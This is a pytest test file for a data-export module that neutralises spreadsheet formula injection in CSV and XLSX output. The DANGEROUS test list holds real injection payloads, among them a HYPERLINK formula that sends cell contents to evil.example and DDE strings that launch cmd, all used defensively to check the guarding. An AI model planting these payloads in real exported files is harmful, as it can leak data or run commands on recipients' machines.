"""import.md: formulas (`=HYPERLINK(…)`) must not run when a CSV leaves the product. Nor in an XLSX."""

from __future__ import annotations

import csv
import datetime as dt
import io

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings, strategies as st

from analytics.errors import InputError
from analytics.ingest import safe_export
from analytics.ingest.safe_export import csv_bytes, safe_text, unguarded, xlsx_bytes

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1;"open")', "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\xa0=1", "\u200b=1", "\ufeff=1", "＝1+1", "＋1", "－1", "＠x", "=", "-", "--",
    "+46 70 123 45 67", "-5:30", "%0A", "|x",
]  # fmt: skip
HARMLESS = [
    "",
    "Group 56",
    "a=b",
    "2024-03-05",
    "x@y.org",
    "אבג",
    "😀",
    "L1>L2>L1",
    "'quoted'",
    "1 - 2",
    "a, -b",
    "C++; done",
]
NUMBERS = ["-5", "+3.25", "1e-7", "-1,234.50", "-12%", "007", ".5"]


def starts_a_formula(text: str) -> bool:
    """Another way to say it than the code's: the first visible character, unless the whole is a number."""
    try:
        float(text.replace(",", "").rstrip("%"))
    except ValueError:
        return text.strip(" \xa0\ufeff\u200b")[:1] in set("=+-@\t\r\n＝＋－＠") or text[:1] in set("\t\r\n")
    return False


def read_csv(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def read_xlsx(content: bytes) -> list[list[object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_cell_starts_a_formula(text):
    frame = pd.DataFrame({"a": [text], text: ["x"]})
    for row in read_csv(csv_bytes(frame)):
        assert not any(map(starts_a_formula, row))
    for row in read_xlsx(xlsx_bytes(frame)):
        assert not any(starts_a_formula(str(value)) for value in row)
    assert safe_text(text).startswith("'")


@pytest.mark.parametrize("text", HARMLESS + NUMBERS)
def test_other_text_and_numbers_written_as_text_stay_as_they_are(text):
    assert safe_text(text) == text


def test_numbers_stay_numbers_and_nothing_stays_nothing():
    frame = pd.DataFrame({
        "i": [-5, 6], "f": [-0.5, np.nan], "b": [True, False], "n": pd.array([-1, None], dtype="Int64"), "s": ["-x", None],
        "t": [pd.Timestamp("2024-03-05 10:00"), pd.NaT], "d": [dt.date(2024, 3, 5), None],
    })  # fmt: skip
    assert read_csv(csv_bytes(frame)) == [
        ["i", "f", "b", "n", "s", "t", "d"],
        ["-5", "-0.5", "True", "-1", "'-x", "2024-03-05 10:00:00", "2024-03-05"],
        ["6", "", "False", "", "", "", ""],
    ]
    assert read_xlsx(xlsx_bytes(frame))[1:] == [
        [-5, -0.5, True, -1, "'-x", "2024-03-05 10:00:00", "2024-03-05"],
        [6, None, False, None, None, None, None],
    ]


def test_an_id_of_seventeen_digits_stays_that_id_in_excel():
    frame = pd.DataFrame({"id": [12345678901234567]})
    assert read_xlsx(xlsx_bytes(frame))[1] == ["12345678901234567"]
    assert read_csv(csv_bytes(frame))[1] == ["12345678901234567"]


@pytest.mark.parametrize("delimiter", [";", "\t", "|"])
def test_a_spreadsheet_that_cuts_elsewhere_finds_no_formula_either(delimiter):
    """A comma file opened where semicolons part cells: Excel ignores the quotes, since they do not begin a cell."""
    frame = pd.DataFrame({"id": [1], "s": [f"x{delimiter}=cmd|' /C calc'!A0{delimiter} @SUM(1){delimiter}-cmd"]})
    line = csv_bytes(frame).decode("utf-8-sig").splitlines()[1]
    assert not any(piece.strip(' "').startswith(("=", "@", "-")) for piece in line.split(delimiter))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(st.sampled_from("=+-@\t\r\n ;|,\"'aé1%.\xa0\u200b"), max_size=10), min_size=1, max_size=5))
def test_whatever_the_text(texts):
    """No cell starts a formula, and but for apostrophes every text comes back as it was."""
    frame = pd.DataFrame({"n": range(len(texts)), "a": texts})
    cells = [row[1] for row in read_csv(csv_bytes(frame))[1:]]
    assert not any(map(starts_a_formula, cells))
    assert [text.replace("'", "") for text in cells] == [text.replace("'", "") for text in texts]
    assert not any(starts_a_formula(str(row[1] or "")) for row in read_xlsx(xlsx_bytes(frame))[1:])


def test_a_csv_that_leaves_comes_back_through_our_own_reader(tmp_path):
    from analytics.ingest.read import open_source

    path = tmp_path / "out.csv"
    path.write_bytes(csv_bytes(pd.DataFrame({"id": [1, 2], "s": ["=x", "a\nb, c"]})))
    chunk = next(iter(open_source(path).chunks()))
    assert chunk.table.to_pylist() == [{"id": "1", "s": "'=x"}, {"id": "2", "s": "a\nb, c"}]


def test_an_empty_frame_and_odd_characters_and_long_text():
    assert read_csv(csv_bytes(pd.DataFrame({"a": []}))) == [["a"]]
    assert read_xlsx(xlsx_bytes(pd.DataFrame({"a": []}), sheet="a/b:c")) == [["a"]]
    odd = pd.DataFrame({"a": ["x\x00\x0by\ud800", "z" * 40_000]}, dtype=object)
    got = read_xlsx(xlsx_bytes(odd))
    assert got[1] == ["xy"]
    assert len(str(got[2][0])) == safe_export.MAX_XLSX_CHARS
    assert read_csv(csv_bytes(odd))[2] == ["z" * 40_000]


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch):
    monkeypatch.setattr(safe_export, "MAX_XLSX_ROWS", 2)
    with pytest.raises(InputError, match="more than an Excel sheet holds"):
        xlsx_bytes(pd.DataFrame({"a": [1, 2, 3]}))


@pytest.mark.parametrize(
    "text", [*DANGEROUS, *HARMLESS, *NUMBERS, "'=1", "''=1", "'-5", "a;=b", "a;'=b", "=;'=", "\t'=x", "'a"]
)
def test_what_was_guarded_comes_back_as_it_was(text):
    assert unguarded(safe_text(text)) == text


@given(st.text(alphabet="'=;+-@ \t\r\n|12ax＝\u200b,.%\xa0", max_size=12) | st.text(max_size=30))
@settings(max_examples=600, deadline=None)
def test_law_guarding_loses_nothing(text):
    assert unguarded(safe_text(text)) == text


@pytest.mark.parametrize("text", ["'twas", "it's", "'90s music", "a'=b", "'-5", "';", "say 'yes'; 'no'"])
def test_an_apostrophe_that_nobody_put_there_stays(text):
    assert unguarded(text) == text
